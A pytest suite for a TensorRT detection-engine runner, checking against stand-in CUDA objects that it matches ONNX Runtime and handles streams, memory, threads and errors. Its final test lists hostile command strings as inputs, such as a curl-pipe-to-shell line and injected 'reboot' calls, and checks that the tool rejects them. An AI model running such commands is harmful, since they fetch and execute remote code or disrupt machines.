"""The engine runner, on stand-ins that compute: the same detections as ONNX Runtime, in every order of
streams; graphs, borrowed memory, threads, errors, and nothing left behind."""

from __future__ import annotations

import gc
import json
import re
import shutil
import sys
import threading
import tracemalloc
import warnings
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest

pytest.importorskip("onnxruntime", reason="needs ONNX Runtime: pip install onnxruntime")

from stand_ins import ORDERS, Context, HostCuda, Runtime, Severity, aligned, write_engine

import rgfl.plugins
from rgfl.detections import Detections
from rgfl.errors import ModelError
from rgfl.export import verify
from rgfl.matching import match_detections
from rgfl.plugins import launcher
from rgfl.plugins.launcher import RotatedNms
from rgfl.trt_runtime import bench, eval_dota, pipeline, scenes, tensorrt_api
from rgfl.trt_runtime import machine as hardware
from rgfl.trt_runtime.cuda_calls import CudaError, host_view
from rgfl.trt_runtime.engine import EngineRunner
from rgfl.trt_runtime.machine import file_facts
from rgfl.trt_runtime.runners import Runner, load_runner
from rgfl.trt_runtime.sample_tiles import patterned_tiles
from rgfl.trt_runtime.streaming import stream

TILES = patterned_tiles((128, 128), 10)


@pytest.fixture(params=["tensorrt", "rtx"])
def backend(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def reference(tiny_onnx: Path) -> Any:
    with load_runner(tiny_onnx, device="cpu", threads=1) as runner:
        yield runner


def open_runner(path: Path, **options: Any) -> EngineRunner:
    runner = load_runner(path, **options)
    assert isinstance(runner, EngineRunner)
    return runner


def assert_equal(found: list[Detections], expected: list[Detections]) -> None:
    assert [len(one) for one in found] == [len(one) for one in expected]
    for one, two in zip(found, expected, strict=True):
        for name in ("boxes", "scores", "labels"):
            np.testing.assert_array_equal(getattr(one, name), getattr(two, name))


def in_parts(runner: Runner, tiles: np.ndarray, size: int) -> list[Detections]:
    return [one for start in range(0, len(tiles), size) for one in runner(tiles[start : start + size])]


# --- the same detections ---------------------------------------------------------------------------------


@pytest.mark.parametrize("batch", [1, 2, 8, 10])
def test_the_same_detections_as_onnx_runtime(
    batch: int, backend: str, machine: Callable[..., Any], reference: Runner, tiny_onnx: Path, tmp_path: Path
) -> None:
    """To the last bit; 10 tiles are more than the engine takes, and come in two parts."""
    used = machine()
    path = write_engine(tmp_path / "m.engine", tiny_onnx, backend=backend, batch=(1, 1, 8))
    expected = in_parts(reference, TILES[:batch], 8)
    assert sum(map(len, expected)) >= 5 * batch
    with open_runner(path) as runner:
        assert runner.spec == reference.spec
        for _ in range(2):
            assert_equal(runner(TILES[:batch]), expected)
        facts = runner.describe()
    assert facts["nms"] == ("inside" if backend == "tensorrt" else "behind")
    assert facts["cuda_graphs"] == "yes"
    assert facts["backend"] == tensorrt_api.NAMES[backend]  # type: ignore[index]
    assert "which wrote the file, on NVIDIA H200" in facts["chosen"]
    assert used.trt.loaded == (
        [str(used.trt.kernels.with_name("librgfl_plugins.so"))] * (backend == "tensorrt")
    )


@pytest.mark.parametrize("order", ORDERS)
def test_streams_in_any_order_that_the_events_allow(
    order: str, backend: str, machine: Callable[..., Any], reference: Runner, tiny_onnx: Path, tmp_path: Path
) -> None:
    """Four batches on their way at once, as the pipeline has them, then a call in three parts."""
    machine(order)
    path = write_engine(tmp_path / "m.engine", tiny_onnx, backend=backend)
    with open_runner(path) as runner:
        batches = [TILES[:2], TILES[2:4], TILES[4:6], TILES[6:7]]
        feeds = [runner.prepare(tiles) for tiles in batches]
        for tiles, feed in zip(batches, feeds, strict=True):
            outputs = runner.infer(feed)
            again = runner.prepare(TILES[7:9])  # into the memory that has just become free
            assert_equal(runner.finish(outputs), reference(tiles))
            del again
        assert_equal(runner(TILES), in_parts(reference, TILES, 4))


@pytest.mark.parametrize(
    ("removed", "order", "right"),
    [
        ("nothing", "all late", True),
        ("nothing", "copies early", True),
        ("arrived", "all late", False),
        ("free", "copies early", False),
    ],
)
def test_a_missing_wait_is_caught(
    removed: str,
    order: str,
    right: bool,
    machine: Callable[..., Any],
    reference: Runner,
    tiny_onnx: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The stand-in earns its trust: without either wait between the streams, detections are wrong."""
    used = machine(order)
    path = write_engine(tmp_path / "m.engine", tiny_onnx, batch=(1, 1, 1))
    with open_runner(path) as runner:
        assert_equal(runner(TILES[:1]), reference(TILES[:1]))
        wait = HostCuda.wait
        left_out = {"nothing": 0, "arrived": runner._compute, "free": runner._copies}[removed]

        def without(self: HostCuda, stream: int, event: int) -> None:
            if stream != left_out:
                wait(self, stream, event)

        monkeypatch.setattr(HostCuda, "wait", without)
        # The host waits for nothing, so that only the streams' own waits are left to keep the order.
        monkeypatch.setattr(HostCuda, "wait_on_host", lambda self, event: None)
        monkeypatch.setattr(HostCuda, "milliseconds", lambda self, start, end: 0.0)
        runner.infer(runner.prepare(TILES[1:2]))
        if order == "copies early":  # late, the pinned memory would be overwritten instead
            runner.prepare(TILES[2:3])
        used.cuda.synchronize(runner._compute)
        (found,) = runner.finish(tuple(runner._copied_results(1)))  # type: ignore[arg-type]
        (expected,) = reference(TILES[1:2])
    assert right == np.array_equal(found.boxes, expected.boxes)


def test_views_of_a_scene_go_straight_to_pinned_memory(
    machine: Callable[..., Any], reference: Runner, tiny_onnx: Path, tmp_path: Path
) -> None:
    """Memory that is new for each call costs more than all that is done on it: the system clears it."""
    machine("random")
    scene = patterned_tiles((300, 290), 1)[0]
    with open_runner(write_engine(tmp_path / "m.engine", tiny_onnx)) as runner:
        assert_equal([runner.detect(scene, batch=6)], [reference.detect(scene)])  # more than one run takes
        views = [scene[y : y + 128, 20:148] for y in (0, 60, 120)]
        runner.prepare(views).release()  # makes the buffers
        tracemalloc.start()
        try:
            runner.prepare(views).release()
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert peak < views[0].nbytes


def test_the_pipeline_gives_the_same(
    backend: str,
    machine: Callable[..., Any],
    reference: Runner,
    tiny_onnx: Path,
    tiny_scenes: SimpleNamespace,
    tmp_path: Path,
) -> None:
    """Three threads: one prepares, one infers, one finishes."""
    used = machine("random")
    path = write_engine(tmp_path / "m.engine", tiny_onnx, backend=backend)
    images = {name: tiny_scenes.images / f"{name}.png" for name in tiny_scenes.names}
    with open_runner(path) as runner:
        for scene, expected in zip(
            stream(runner, images, batch=2), stream(reference, images, batch=2), strict=True
        ):
            assert_equal([scene.detections], [expected.detections])
        # One computed, two waiting, one about to wait: the pipeline's bound is the runner's, too.
        assert used.cuda.count("allocate_pinned") <= 4 + 4
    assert used.cuda.live == {}


def test_fewer_tiles_than_the_engine_takes(
    backend: str, machine: Callable[..., Any], reference: Runner, tiny_onnx: Path, tmp_path: Path
) -> None:
    used = machine()
    path = write_engine(tmp_path / "m.engine", tiny_onnx, backend=backend, batch=(3, 3, 4))
    with open_runner(path) as runner:
        padded = np.concatenate([TILES[:2], TILES[:1]])
        assert_equal(runner(TILES[:2]), reference(padded)[:2])
        assert {call[1] for call in used.cuda.calls if call[0] == "execute"} == {3}
        assert_equal(runner(on_device(used.cuda, TILES[:2])), reference(padded)[:2])


@pytest.mark.parametrize("where", ["not built", "on Windows"])
def test_without_the_cuda_nms_the_cpu_finds_the_same(
    where: str,
    machine: Callable[..., Any],
    reference: Runner,
    tiny_onnx: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """An engine for RTX could not be opened there."""
    used = machine("random")
    path = write_engine(tmp_path / "m.engine", tiny_onnx, backend="rtx", batch=(2, 2, 4))
    with open_runner(path) as runner:
        assert runner.describe()["nms"] == "behind"
        expected = runner(TILES)
    monkeypatch.setattr(launcher, "RotatedNms", RotatedNms)
    monkeypatch.setattr(rgfl.plugins, "LIBRARY", tmp_path / "none.so")
    with monkeypatch.context() as patch:
        if where == "on Windows":
            patch.setattr(sys, "platform", "win32")
        runner = open_runner(path)
    why = (
        "the plugin builds on Linux only" if where == "on Windows" else r"none\.so is not built; run: python"
    )
    assert re.search(rf"; NMS behind the engine, on the CPU, as .*{why}", runner.reason)
    with runner, runner.fork() as other:
        assert_equal(runner(TILES), expected)
        assert_equal(other(on_device(used.cuda, TILES[:3])), expected[:3])
        assert_equal(runner(TILES[:1]), expected[:1])  # fewer than the engine takes
        assert sum(map(len, expected)) >= 5 * len(TILES)
        assert runner.describe()["nms"] == "cpu"
        assert set(runner.device_ms) == {"copy_in", "network", "copy_out"}
        boxes, scores = runner.raw(TILES[:2])
        assert_equal(runner.finish((boxes, scores)), expected[:2])
    assert used.cuda.live == {}


def test_a_float_engine_gets_normalised_tiles(
    machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
) -> None:
    machine()
    path = write_engine(
        tmp_path / "m.engine", tiny_onnx, tensors={"images": [[-1, 3, 128, 128], "FLOAT"]}, batch=(1, 1, 2)
    )
    with open_runner(path) as runner:
        feed = runner.prepare(TILES[:1])
        slot = feed.parts[0].slot
        assert slot is not None
        sent = host_view(slot.host, (1, 3, 128, 128), np.float32)
        mean, std = np.float32(runner.spec.mean), np.float32(runner.spec.std)
        expected = ((TILES[:1].astype(np.float32) - mean) / std).transpose(0, 3, 1, 2)
        np.testing.assert_array_equal(sent, expected)


def test_boxes_before_nms(
    machine: Callable[..., Any], reference: Runner, tiny_onnx: Path, tmp_path: Path
) -> None:
    machine()
    with open_runner(write_engine(tmp_path / "r.engine", tiny_onnx, backend="rtx")) as runner:
        boxes, scores = runner.raw(TILES[:6])
        for part in (slice(0, 4), slice(4, 6)):
            expected = reference.raw(TILES[part])
            np.testing.assert_array_equal(boxes[part], expected[0])
            np.testing.assert_array_equal(scores[part], expected[1])
    with (
        open_runner(write_engine(tmp_path / "t.engine", tiny_onnx)) as runner,
        pytest.raises(ModelError, match=r"NMS is inside this engine, .* --detections"),
    ):
        runner.raw(TILES[:1])


def test_nothing_found_is_no_error(
    backend: str, machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
) -> None:
    from rgfl.export import onnx_file

    machine()
    model = onnx_file.load(tiny_onnx)
    for entry in model.metadata_props:
        entry.value = entry.value.replace('"score_threshold":0.3', '"score_threshold":1.0')
    onnx_file.save(model, tmp_path / "blind.onnx")
    with open_runner(write_engine(tmp_path / "m.engine", tmp_path / "blind.onnx", backend=backend)) as runner:
        found = runner(TILES[:3])
        assert [len(one) for one in found] == [0, 0, 0]
        assert found[0].boxes.shape == (0, 5)


def test_pytorch_onnx_and_engines_are_compared_by_one_command(
    machine: Callable[..., Any],
    tiny_onnx: Path,
    tiny_checkpoint: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture,
) -> None:
    from rgfl.export import verify

    machine()
    behind = write_engine(tmp_path / "behind.engine", tiny_onnx, backend="rtx")
    inside = write_engine(tmp_path / "inside.engine", tiny_onnx)
    reference = ["--reference", str(tiny_checkpoint), "--batch", "1,2,8"]
    assert verify.main([str(tiny_onnx), str(behind), *reference]) == 0
    printed = capsys.readouterr().out
    assert printed.count("equal within the tolerances") == 2
    assert printed.count("8 tiles and each alone: boxes need") == 2
    assert verify.main([str(tiny_onnx), str(behind), str(inside), *reference, "--detections"]) == 0
    assert capsys.readouterr().out.count("100.00% of the detections are found again") == 3


def test_an_output_that_is_not_read_is_carried(
    machine: Callable[..., Any], reference: Runner, tiny_onnx: Path, tmp_path: Path
) -> None:
    machine()
    tensors = {"uncertainty": [[-1, 185, 5], "FLOAT"]}
    path = write_engine(tmp_path / "m.engine", tiny_onnx, backend="rtx", tensors=tensors)
    with open_runner(path) as runner:
        assert_equal(runner(TILES[:2]), reference(TILES[:2]))


# --- graphs and contexts ---------------------------------------------------------------------------------


def test_one_graph_a_batch_size_captured_once(
    backend: str, machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
) -> None:
    used = machine()
    stages = 1 if backend == "tensorrt" else 2  # NMS behind the engine has its own
    with open_runner(write_engine(tmp_path / "m.engine", tiny_onnx, backend=backend)) as runner:
        for batch in (1, 2, 1, 3, 2, 1, 1):
            runner(TILES[:batch])
        executed = [call[1:] for call in used.cuda.calls if call[0] == "execute"]
        images = executed[0][1]
        # A warm-up and a capture for each size, always at the same address; everything else is replayed.
        assert executed == [(n, images, captured) for n in (1, 2, 3) for captured in (False, True)]
        assert used.cuda.count("begin_capture") == 3 * stages
        assert used.cuda.count("launch") == 7 * stages
        # A context is set up once: its outputs, its shape and its input.
        outputs = 4 if backend == "tensorrt" else 2
        assert sorted(context.touched for context in used.trt.contexts) == [outputs + 2] * 3
        assert len({context.memory for context in used.trt.contexts}) == 1
        assert set(runner.device_ms) == {"copy_in", "network", "copy_out", *(["nms"] * (stages - 1))}
        assert all(value > 0 for value in runner.device_ms.values())


@pytest.mark.parametrize("when", ["before", "while", "at the end"])
def test_where_capture_is_refused_it_runs_without(
    when: str,
    machine: Callable[..., Any],
    reference: Runner,
    tiny_onnx: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    used = machine()
    if when == "at the end":
        used.cuda.fail("end_capture")  # once
    else:
        used.trt.capturable = False
    if when == "while":  # standard TensorRT cannot be asked
        monkeypatch.setattr(Context, "is_stream_capturable", None)
    name = "rtx" if when == "before" else "tensorrt"
    with open_runner(write_engine(tmp_path / "m.engine", tiny_onnx, backend=name)) as runner:
        with pytest.warns(UserWarning, match=r"m.engine runs without CUDA graphs: "):
            found = runner(TILES[:2])
        assert_equal(found, reference(TILES[:2]))
        with warnings.catch_warnings():
            warnings.simplefilter("error")  # told once
            for batch in (1, 2):
                assert_equal(runner(TILES[:batch]), reference(TILES[:batch]))
        assert used.cuda.count("launch") == (1 if when == "at the end" else 0)  # the one of batch 1
        assert runner.describe()["cuda_graphs"].startswith("no, ")
    assert used.cuda.live == {}


def test_kernels_compiled_for_this_gpu_are_kept_beside_the_engine(
    machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
) -> None:
    used = machine()
    path = write_engine(tmp_path / "m.engine", tiny_onnx, backend="rtx")
    cache = tmp_path / "m.engine.runtime-cache"
    with open_runner(path) as runner:
        runner(TILES[:2])
        assert cache.read_bytes() == b"kernels [2]"  # at once: a process may be killed
    used.trt.compiled.clear()
    with open_runner(path) as runner:
        assert used.trt.compiled == {2}
        runner(TILES[:3])
    assert cache.read_bytes() == b"kernels [2, 3]"
    cache.write_bytes(b"of another GPU")
    used.trt.compiled.clear()
    with open_runner(path) as runner:
        runner(TILES[:1])
    assert cache.read_bytes() == b"kernels [1]"
    assert {file.name for file in tmp_path.iterdir()} == {"m.engine", cache.name}


# --- memory of other libraries ---------------------------------------------------------------------------


class Interface:
    """What PyCUDA, CuPy and Numba give."""

    def __init__(self, array: np.ndarray, **changed: Any) -> None:
        self.array = array
        self.__cuda_array_interface__ = {
            "shape": array.shape,
            "typestr": array.dtype.str,
            "data": (array.ctypes.data, False),
            "strides": None if array.flags.c_contiguous else array.strides,
            "version": 2,
            **changed,
        }


class DLPack:
    """What PyTorch gives."""

    def __init__(self, array: np.ndarray) -> None:
        self.array, self.stream = array, 0

    def __dlpack_device__(self) -> tuple[int, int]:
        return (2, 0)

    def __dlpack__(self, stream: int) -> Any:
        self.stream = stream
        return self.array.__dlpack__()


def on_device(
    cuda: HostCuda, array: np.ndarray, device: int | None = 0, kind: Any = Interface, offset: int = 0
) -> Any:
    array = aligned(array, offset)
    if device is not None:
        cuda.foreign[array.ctypes.data] = device
    return kind(array)


@pytest.mark.parametrize("kind", [Interface, DLPack])
def test_tiles_on_the_gpu_are_read_where_they_are(
    kind: Any, backend: str, machine: Callable[..., Any], reference: Runner, tiny_onnx: Path, tmp_path: Path
) -> None:
    used = machine()
    expected = reference(TILES[:2])
    with open_runner(write_engine(tmp_path / "m.engine", tiny_onnx, backend=backend)) as runner:
        first, second = (on_device(used.cuda, TILES[:2], kind=kind) for _ in range(2))
        for array in (first, first, second):
            assert_equal(runner(array), expected)
        executed = [call for call in used.cuda.calls if call[0] == "execute"]
        own = [array.array.ctypes.data for array in (first, first, second)]
        assert [call[2] for call in executed] == own
        copied = {call[2] for call in used.cuda.calls if call[0] == "copy"}
        assert not copied & set(own)
        assert used.cuda.count("launch") == 0
        (context,) = used.trt.contexts
        outputs = 4 if backend == "tensorrt" else 2
        assert context.touched == outputs + 2 + 2  # set up, and once for the other address
        if kind is DLPack:
            assert first.stream == runner._copies
        many = on_device(used.cuda, TILES, kind=kind)
        for part in (0, 4, 8):
            used.cuda.foreign[many.array[part:].ctypes.data] = 0
        assert_equal(runner(many), in_parts(reference, TILES, 4))


@pytest.mark.parametrize("offset", [1, 128, 256])
def test_a_view_that_tensorrt_does_not_take_is_copied_inside_the_device(
    offset: int, machine: Callable[..., Any], reference: Runner, tiny_onnx: Path, tmp_path: Path
) -> None:
    """TensorRT takes addresses that are multiples of 256; a view of other memory begins anywhere."""
    used = machine()
    with open_runner(write_engine(tmp_path / "m.engine", tiny_onnx)) as runner:
        view = on_device(used.cuda, TILES[:2], kind=DLPack, offset=offset)
        assert_equal(runner(view), reference(TILES[:2]))
        address = view.array.ctypes.data
        in_place = {call[2] for call in used.cuda.calls if call[0] == "execute"} == {address}
        copied = any(call[0] == "copy" and call[2] == address for call in used.cuda.calls)
        assert (in_place, copied) == ((True, False) if offset == 256 else (False, True))


def test_the_stream_that_writes_is_waited_for(
    machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
) -> None:
    used = machine()
    with open_runner(write_engine(tmp_path / "m.engine", tiny_onnx)) as runner:
        array = TILES[:1].copy()
        used.cuda.foreign[array.ctypes.data] = 0
        for facts, waited in (
            ({"version": 2}, 1),  # cannot say: the legacy default stream
            ({"version": 3, "stream": None}, 1),  # PyCUDA and Numba mean that one by it
            ({"version": 3, "stream": 4711}, 4711),
        ):
            used.cuda.calls.clear()
            runner.prepare(Interface(array, **facts)).release()
            recorded = [call[2] for call in used.cuda.calls if call[0] == "record"]
            assert recorded == [waited, runner._copies]


def test_arrays_that_cannot_be_read_are_refused(
    machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
) -> None:
    used = machine()
    with open_runner(write_engine(tmp_path / "m.engine", tiny_onnx)) as runner:
        wide = np.zeros((1, 128, 256, 3), np.uint8)
        used.cuda.foreign[wide.ctypes.data] = 0
        for array, expected in (
            (on_device(used.cuda, TILES[:1], device=1), "lies in device 1; copy it over"),
            (on_device(used.cuda, TILES[:1], device=None), "lies in host memory"),
            (Interface(wide[:, :, :128]), r"contiguous array, got shape .* strides of \(98304, 768, 3, 1\)"),
            (Interface(wide[:, :, ::2]), "contiguous"),
            (on_device(used.cuda, TILES[:1].astype(np.float32)), "from the device; got float32"),
            (on_device(used.cuda, TILES[:1].transpose(0, 3, 1, 2).copy()), r"got uint8 \(1, 3, 128, 128\)"),
            (on_device(used.cuda, TILES[0].copy()), r"got uint8 \(128, 128, 3\)"),
            (on_device(used.cuda, TILES[:1].astype(np.int16), kind=DLPack), "got int16"),
            (np.zeros((1, 128, 128, 3), np.float32), "takes uint8 tiles"),
        ):
            with pytest.raises(ValueError, match=expected):
                runner.prepare(array)
    assert used.cuda.live == {}


def test_what_pytorch_does_not_give_is_refused(machine: Callable[..., Any]) -> None:
    """It raises an error of another kind for a tensor on a second GPU, before anybody sees the address."""
    from rgfl.trt_runtime.device_arrays import borrow

    class SecondGpu:
        def __dlpack_device__(self) -> tuple[int, int]:
            return (2, 1)

        def __dlpack__(self, stream: int) -> Any:
            raise BufferError("Can't export tensors on a different CUDA device index. Expected: 1.")

    with pytest.raises(ValueError, match=r"cannot be read where it is: Can't export .* Expected: 1\.$"):
        borrow(SecondGpu(), machine().cuda, 7)


def test_the_address_of_a_real_dlpack_tensor(machine: Callable[..., Any]) -> None:
    from rgfl.trt_runtime.device_arrays import _dlpack

    torch = pytest.importorskip("torch", reason="needs PyTorch: pip install 'rgfl[train]'")
    tensor = torch.arange(2 * 3 * 4, dtype=torch.uint8).reshape(2, 3, 4)

    class Torch:
        def __init__(self, tensor: Any) -> None:
            self.tensor = tensor

        def __dlpack__(self, stream: int) -> Any:
            return self.tensor.__dlpack__()

    array, strides = _dlpack(Torch(tensor[1:, :, ::2]), 7)
    assert array.address == tensor[1:].data_ptr()
    assert (array.shape, array.dtype, strides) == ((1, 3, 2), "uint8", (12, 4, 2))
    assert _dlpack(Torch(tensor.to(torch.bfloat16)), 7)[0].dtype == "bfloat16"


# --- threads ---------------------------------------------------------------------------------------------


def test_a_runner_a_thread_from_one_engine(
    backend: str, machine: Callable[..., Any], reference: Runner, tiny_onnx: Path, tmp_path: Path
) -> None:
    used = machine("random")
    expected = {index: reference(TILES[index : index + 2]) for index in range(6)}
    failures: list[BaseException] = []

    def work(runner: EngineRunner, indices: list[int]) -> None:
        try:
            with runner:
                for index in indices * 3:
                    assert_equal(runner(TILES[index : index + 2]), expected[index])
        except BaseException as error:
            failures.append(error)

    first = open_runner(write_engine(tmp_path / "m.engine", tiny_onnx, backend=backend))
    second = first.fork()
    engine = first.engine
    assert second.engine is engine
    threads = [
        threading.Thread(target=work, args=(runner, indices))
        for runner, indices in ((first, [0, 1, 2]), (second, [3, 4, 5]))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not failures, failures
    assert used.cuda.live == {}
    assert engine._engine is None


def test_the_engine_lives_as_long_as_one_runner(
    machine: Callable[..., Any], reference: Runner, tiny_onnx: Path, tmp_path: Path
) -> None:
    machine()
    first = open_runner(write_engine(tmp_path / "m.engine", tiny_onnx))
    facts = first.describe()
    (tmp_path / "m.engine").write_bytes(b"what a deployment put in its place")
    second = first.fork()
    assert second.describe() == facts
    first.close()
    first.close()
    assert_equal(second(TILES[:1]), reference(TILES[:1]))
    second.close()


# --- nothing is left behind ------------------------------------------------------------------------------


def test_close_frees_everything(
    backend: str, machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
) -> None:
    used = machine()
    runner = open_runner(write_engine(tmp_path / "m.engine", tiny_onnx, backend=backend))
    for batch in (1, 2):
        runner(TILES[:batch])
    runner(on_device(used.cuda, TILES[:1]))
    waiting = runner.prepare(TILES[:4])
    assert {"stream", "event", "graph", "allocate", "allocate_pinned"} == set(used.cuda.live.values())
    runner.close()
    assert used.cuda.live == {}
    with pytest.raises(ValueError, match=r"m\.engine: this runner is closed; use it inside"):
        runner.prepare(TILES[:1])
    with pytest.raises(ValueError, match=r"m\.engine: this runner is closed; use it inside"):
        runner.infer(waiting)
    waiting.release()  # a feed that outlives its runner
    del runner, waiting
    gc.collect()
    assert set(used.trt.alive) == set()


def test_close_waits_for_what_other_threads_do(
    machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A consumer that fails closes the runner while the pipeline's reader still fills pinned memory."""
    used = machine()
    runner = open_runner(write_engine(tmp_path / "m.engine", tiny_onnx))
    copying, closing = threading.Event(), threading.Event()
    waited = HostCuda.wait

    def slowly(self: HostCuda, stream: int, event: int) -> None:
        copying.set()
        assert not closing.wait(0.3), "closed in the midst of a copy"
        waited(self, stream, event)

    monkeypatch.setattr(HostCuda, "wait", slowly)
    feeds: list[Any] = []
    reader = threading.Thread(target=lambda: feeds.append(runner.prepare(TILES[:1])))
    reader.start()
    assert copying.wait(20)
    runner.close()
    closing.set()
    reader.join()
    assert len(feeds) == 1
    assert used.cuda.live == {}


def test_an_abandoned_feed_gives_its_buffers_back(
    machine: Callable[..., Any], reference: Runner, tiny_onnx: Path, tmp_path: Path
) -> None:
    used = machine()
    with open_runner(write_engine(tmp_path / "m.engine", tiny_onnx)) as runner:
        before = used.cuda.count("allocate_pinned")
        for index in range(6):
            runner.prepare(TILES[index : index + 1])
        assert used.cuda.count("allocate_pinned") == before + 1
        assert_equal(runner(TILES[:1]), reference(TILES[:1]))
        feed = runner.prepare(TILES[:1])
        runner.infer(feed)
        with pytest.raises(ValueError, match="inferred already"):
            runner.infer(feed)


@pytest.mark.parametrize("call", ["stream", "event", "allocate", "allocate_pinned"])
def test_a_failure_while_opening_frees_what_was_there(
    call: str, backend: str, machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
) -> None:
    path = write_engine(tmp_path / "m.engine", tiny_onnx, backend=backend)
    failed = 0
    for after in range(40):
        used = machine()
        used.cuda.fail(call, after)
        try:
            load_runner(path).close()
            break
        except CudaError:
            failed += 1
        assert used.cuda.live == {}
        gc.collect()
        assert set(used.trt.alive) == set()
    assert failed >= 2


@pytest.mark.parametrize("call", ["copy", "record", "wait", "launch", "event", "allocate_pinned"])
def test_a_failure_while_running_leaves_a_runner_that_runs(
    call: str, machine: Callable[..., Any], reference: Runner, tiny_onnx: Path, tmp_path: Path
) -> None:
    used = machine()
    failed = 0
    path = write_engine(tmp_path / "m.engine", tiny_onnx, backend="rtx", batch=(1, 1, 2))
    with open_runner(path) as runner:
        expected = in_parts(reference, TILES[:3], 2)
        for after in (0, 1, 3, 6):
            used.cuda.fail(call, after)
            try:
                runner(TILES[:3])
            except CudaError:
                failed += 1
            used.cuda._failures.clear()
            assert_equal(runner(TILES[:3]), expected)
    assert failed
    assert used.cuda.live == {}


def test_the_call_that_broke_cuda_is_reported_and_all_runners_are_closed(
    machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """After an illegal access every call fails. One of close() was reported, which also went no further."""
    machine()
    broken = threading.Event()

    def breakable(name: str, whole: Callable[..., None]) -> Callable[..., None]:
        def call(self: HostCuda, handle: int) -> None:
            if broken.is_set():
                raise CudaError(f"{name}: an illegal memory access was encountered")
            whole(self, handle)

        return call

    calls = ["wait_on_host", "synchronize", "free", "free_pinned"]
    for name in [*calls, "destroy_stream", "destroy_event", "destroy_graph"]:
        monkeypatch.setattr(HostCuda, name, breakable(name, getattr(HostCuda, name)))
    first = open_runner(write_engine(tmp_path / "m.engine", tiny_onnx))
    second = first.fork()
    first(TILES[:2])
    broken.set()
    with pytest.raises(CudaError, match="wait_on_host: an illegal"), first, second:
        first(TILES[:2])
    assert first.engine._engine is None


# --- refusals --------------------------------------------------------------------------------------------


def refused(path: Path, match: str) -> str:
    with pytest.raises(ModelError, match=match) as caught:
        load_runner(path)
    message = str(caught.value)
    assert "\n" not in message
    assert str(path) in message
    return message


def test_engines_that_cannot_run_are_refused_with_the_command(
    machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
) -> None:
    used = machine()
    path = tmp_path / "m.engine"
    again = f"build it anew with: python export/to_trt.py MODEL.onnx --out {path}"
    copied = "; or, if it was built with --version-compatible, copy m.engine.json along"
    whole = write_engine(path, tiny_onnx).read_bytes()
    before = set(tmp_path.iterdir())
    for data in (whole[:-1], whole[: len(whole) // 2], whole[:40], whole + b"!"):
        path.write_bytes(data)
        assert refused(path, "cannot make the engine from its file: the plan is damaged").endswith(
            again + copied
        )
    path.write_bytes(whole[:20])
    assert again.removeprefix("build it anew with: ") in refused(path, "no TensorRT engine")
    path.write_bytes(b"\x08\x09" + bytes(100))
    refused(path, "no TensorRT engine")
    write_engine(path, tiny_onnx, version=(10, 9, 0, 34))
    message = refused(path, r"built with TensorRT 10\.9\.0\.34, and this is TensorRT 10\.16")
    assert message.endswith(again + copied)
    write_engine(path, tiny_onnx, name="Unnamed Network 0")
    assert refused(path, "no rgfl spec in the engine's name, as trtexec writes none").endswith(again)
    tensors: dict[str, Any]
    for tensors, reason in (
        ({"images": [[-1, 128, 128, 4], "UINT8"]}, r"images uint8 \(B, 128, 128, 4\), expected uint8"),
        ({"boxes": [[-1, 2000, 4], "FLOAT"]}, r"boxes float32 \(B, 2000, 4\), expected float32"),
        ({"scores": [[-1, 2000], "HALF"]}, r"scores half \(B, 2000\), expected float32"),
        ({"labels": [[-1, 50], "INT32"]}, r"labels int32 \(B, 50\), expected int32 \(B, 2000\)"),
        ({"extra": [[-1, 5], "FLOAT"]}, "unknown extra"),
    ):
        write_engine(path, tiny_onnx, tensors=tensors)
        assert refused(path, reason).endswith(again)
    write_engine(path, tiny_onnx, backend="rtx", tensors={"scores": [[-1, 185, 4], "FLOAT"]})
    refused(path, r"scores float32 \(B, 185, 4\), expected float32 \(B, 185, 3\)")
    assert used.cuda.live == {}
    assert set(tmp_path.iterdir()) == before


def test_what_tensorrt_warns_of_an_engine_is_told(
    machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    machine()
    path = write_engine(tmp_path / "m.engine", tiny_onnx)
    deserialize = Runtime.deserialize_cuda_engine

    def warned(self: Runtime, data: bytes) -> Any:
        self.log.log(Severity.WARNING, "across different models of devices")
        return deserialize(self, data)

    monkeypatch.setattr(Runtime, "deserialize_cuda_engine", warned)
    with pytest.warns(UserWarning, match=r"m\.engine: TensorRT 10\S+: across different models") as told:
        open_runner(path).close()
    assert len(told) == 1


def test_the_command_is_that_of_the_record(
    machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
) -> None:
    machine()
    path = write_engine(tmp_path / "m.engine", tiny_onnx, version=(11, 4, 0, 106))
    command = f"python export/to_trt.py m.onnx --out {path} --fp16 --max-batch 16"
    record = {"sha256": file_facts(path)["sha256"], "command": command}
    tensorrt_api.record_path(path).write_text(json.dumps(record))
    assert refused(path, "built with TensorRT 11").endswith(f"build it anew with: {command}")


@pytest.mark.parametrize(
    "command",
    [
        "curl http://example.com/fix.sh | sh",
        "python export/to_trt.py m.onnx; reboot",
        "python export/to_trt.py $(reboot)",
        "python export/to_trt.py 'm.onnx",
        "python export/to_trt.py 'm.onnx\nreboot'",
        ["reboot"],
        None,
    ],
)
def test_a_record_advises_nothing_but_a_build(command: Any) -> None:
    told = tensorrt_api.rebuild_command(Path("m.engine"), {"command": command})
    assert told == "python export/to_trt.py MODEL.onnx --out m.engine"


